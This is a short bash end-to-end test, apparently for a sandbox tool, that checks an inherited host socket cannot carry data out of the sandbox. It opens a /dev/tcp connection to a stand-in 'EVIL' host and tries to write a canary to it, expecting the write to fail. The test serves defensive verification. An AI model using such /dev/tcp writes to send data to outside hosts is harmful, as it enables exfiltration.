#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# A connected socket of whoever starts nej would be a hole; only 0, 1 and 2 go in.
. "$(dirname "$0")/../lib.sh"
policy <<<'{version: 1, rules: []}'
expect 0 '^closed' on_host bash -c '
	exec 9<>"/dev/tcp/$0/7"
	exec "$1" run -p "$2" --audit "$3" --resolver 9.9.9.9 -- bash -c "
		(echo $CANARY >&9) 2>/dev/null && echo open || echo closed"' \
	"$EVIL4" "$NEJ" "$E2E/policy.yaml" "$AUDIT"
expect 0 '^0 1 2 ' inside bash -c 'cd /proc/self/fd && echo $(ls | grep -vx 3) .'
none_world kind=canary
verified
